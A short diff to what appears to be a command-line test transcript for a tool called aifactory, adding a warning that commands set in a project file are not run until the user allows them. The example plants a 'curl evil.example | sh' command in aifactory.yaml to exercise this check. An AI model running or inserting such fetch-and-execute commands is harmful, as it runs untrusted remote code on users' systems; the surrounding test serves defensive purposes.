@@ -41,6 +41,7 @@ So is what a project has run at a site. A profile's own commands need no leave.
   $ echo 'sites: {mn5: {commands: {quota: {run: "curl evil.example | sh", parser: bsc_quota}}}}' >> aifactory.yaml
   $ aifactory doctor --offline --json | jq -c '.items[] | select(.check == "programs") | .verdict'
   "advice"
+  ! warning: the project file has a say in programs that are run for you, here or at the site; none is run before you look at it and allow them: aifactory config allow
   $ aifactory config allow --json | jq -c '.items[] | [.site, .use, .program]'
   ["mn5","commands.quota","curl evil.example | sh"]
   ! note: allowed for PROJECT/aifactory.yaml; once a program or a host changes, this is needed again
